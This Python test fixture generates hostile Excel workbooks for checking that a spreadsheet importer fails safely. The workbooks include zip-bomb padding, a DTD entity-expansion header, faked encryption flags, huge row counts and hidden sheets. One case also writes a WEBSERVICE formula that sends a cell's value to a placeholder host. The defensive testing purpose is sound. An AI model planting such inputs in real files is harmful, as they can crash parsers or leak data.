"""Hostile workbooks given to `kehoach import`, each made from a real form (openpyxl's, or
the same saved by LibreOffice Calc). Each must end in a located Vietnamese error with exit
1 and nothing written, or in a clean import; never a traceback, a hang or a runaway.

Shared by tests/forms/test_hostile_forms.py and benchmarks/hostile_forms.py (which runs
each from the shell and measures its time and memory).
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from openpyxl import load_workbook

TASKS_XML = "xl/worksheets/sheet2.xml"  # the tasks sheet, second in the workbook


@dataclass(frozen=True)
class FormCase:
    name: str
    make: Callable[[bytes], bytes]  # a real form's bytes → the hostile file's
    words: str  # what the error says (empty: the import is clean, exit 0)


def _rezip(
    data: bytes,
    change: Callable[[str, bytes], bytes] = lambda name, body: body,
    method: Callable[[str], int] = lambda name: zipfile.ZIP_DEFLATED,
    flags: Callable[[str], int] = lambda name: 0,
    extra: dict[str, bytes] | None = None,
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            body = change(info.filename, source.read(info.filename))
            fresh = zipfile.ZipInfo(info.filename, info.date_time)
            fresh.compress_type = method(info.filename)
            fresh.flag_bits |= flags(info.filename)
            target.writestr(fresh, body)
        for name, body in (extra or {}).items():
            target.writestr(name, body)
    return out.getvalue()


def _in_tasks(transform: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    return lambda data: _rezip(data, lambda n, b: transform(b) if n == TASKS_XML else b)


def _padded(size: int) -> Callable[[bytes], bytes]:
    """The tasks sheet padded with `size` bytes of blanks: packs ~1000:1."""
    return _in_tasks(lambda body: body.replace(b"<sheetData>", b"<sheetData>" + b" " * size, 1))


def _rows(count: int) -> Callable[[bytes], bytes]:
    """`count` filled rows appended to the tasks sheet (XML that packs like real data)."""

    def add(body: bytes) -> bytes:
        rows = b"".join(
            b'<row r="%d"><c r="F%d" t="inlineStr"><is><t>x%d</t></is></c></row>' % (n, n, n)
            for n in range(100, 100 + count)
        )
        return body.replace(b"</sheetData>", rows + b"</sheetData>", 1)

    return _in_tasks(add)


def _encrypted_flag(data: bytes) -> bytes:
    """Every member marked encrypted (bit 0 of the flags, local and central headers)."""
    out = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for found in re.finditer(re.escape(signature), data):
            out[found.start() + offset] |= 0x1
    return bytes(out)


def _long_cell(body: bytes) -> bytes:
    """A 100 000-character text (Excel keeps 32 767) in the results of task 2.1."""
    text = b"x" * 100_000
    return re.sub(
        rb'(<c r="F1[0-9]"[^>]*?)(/>|>.*?</c>)',
        lambda m: (
            m.group(1).replace(b' t="inlineStr"', b"")
            + b' t="inlineStr"><is><t>'
            + text
            + b"</t></is></c>"
        ),
        body,
        count=1,
    )


def _dense(count: int, columns: bytes) -> Callable[[bytes], bytes]:
    """`count` rows with a number in each of `columns`, below the tasks table: the most a
    form may hold, read to the end (a clean import: rows with no task id are no task)."""

    def add(body: bytes) -> bytes:
        rows = b"".join(
            b'<row r="%d">' % n
            + b"".join(b'<c r="%s%d"><v>%d</v></c>' % (bytes([c]), n, n) for c in columns)
            + b"</row>"
            for n in range(100, 100 + count)
        )
        return body.replace(b"</sheetData>", rows + b"</sheetData>", 1)

    return _in_tasks(add)


def _far_cell(body: bytes) -> bytes:
    cell = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return body.replace(b"</sheetData>", cell + b"</sheetData>", 1)


def _dtd(body: bytes) -> bytes:
    laughs = b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
    return body.replace(b"<worksheet", laughs + b"<worksheet", 1)


def _shared_string(index: bytes) -> Callable[[bytes], bytes]:
    """A string cell of Calc's file pointing at shared string `index`."""
    return _in_tasks(
        lambda body: re.sub(
            rb'(t="s"[^>]*><v>)\d+(</v>)', rb"\g<1>" + index + rb"\2", body, count=1
        )
    )


def _with_openpyxl(change: Callable[[object], None]) -> Callable[[bytes], bytes]:
    def make(data: bytes) -> bytes:
        workbook = load_workbook(io.BytesIO(data))
        change(workbook)
        out = io.BytesIO()
        workbook.save(out)
        return out.getvalue()

    return make


def _date_overflow(workbook: object) -> None:
    sheet = workbook["Nhiệm vụ"]  # type: ignore[index]
    sheet["B6"] = 1e10
    sheet["B6"].number_format = "DD/MM/YYYY"


def _sheet_state(state: str) -> Callable[[object], None]:
    def hide(workbook: object) -> None:
        extra = workbook.create_sheet("Ẩn")  # type: ignore[attr-defined]
        extra["A1"] = "không thấy được"
        extra.sheet_state = state

    return hide


def _formula_text(workbook: object) -> None:
    sheet = workbook["Nhiệm vụ"]  # type: ignore[index]
    row = next(r for r in range(1, 40) if sheet.cell(r, 1).value == "2.1")
    sheet[f"F{row}"] = '=WEBSERVICE("http://example.invalid/?"&A1)'
    sheet[f"F{row}"].data_type = "s"  # typed as text (Calc: a leading apostrophe)


CASES = [
    FormCase("not-a-zip", lambda data: b"PK\x03\x04 not really", "không đọc được tệp"),
    FormCase("empty", lambda data: b"", "không đọc được tệp"),
    FormCase("inflates-to-40MB", _padded(40 * 1024 * 1024), "giải nén"),
    FormCase("packed-1000-to-1", _padded(6 * 1024 * 1024), "nén bất thường"),
    FormCase("200k-rows", _rows(200_000), "dòng"),
    FormCase("6000-rows", _rows(6_000), "dòng"),
    FormCase("4900-rows-of-12-cells", _dense(4_900, b"JKLMNOPQRSTU"), ""),
    FormCase("cell-at-XFD1048576", _in_tasks(_far_cell), "dòng 1048576"),
    FormCase("dtd-entities", _in_tasks(_dtd), "DTD"),
    FormCase("encrypted-member", lambda d: _encrypted_flag(d), "mã hóa"),
    FormCase(
        "bzip2-member", lambda d: _rezip(d, method=lambda n: zipfile.ZIP_BZIP2), "nén theo cách"
    ),
    FormCase(
        "many-members", lambda d: _rezip(d, extra={f"x/{n}": b"" for n in range(600)}), "phần"
    ),
    FormCase("date-1e10", _with_openpyxl(_date_overflow), "'Nhiệm vụ'!B6: [lỗi]"),
    FormCase("hidden-sheet", _with_openpyxl(_sheet_state("hidden")), "bị ẩn"),
    FormCase("very-hidden-sheet", _with_openpyxl(_sheet_state("veryHidden")), "bị ẩn"),
    FormCase("100k-char-cell", _in_tasks(_long_cell), "32767"),
    FormCase("formula-typed-as-text", _with_openpyxl(_formula_text), ""),
]
# On the form as LibreOffice Calc saved it (shared strings): one out of range.
CALC_CASES = [
    FormCase("shared-string-99999", _shared_string(b"99999"), "không đọc được tệp"),
]
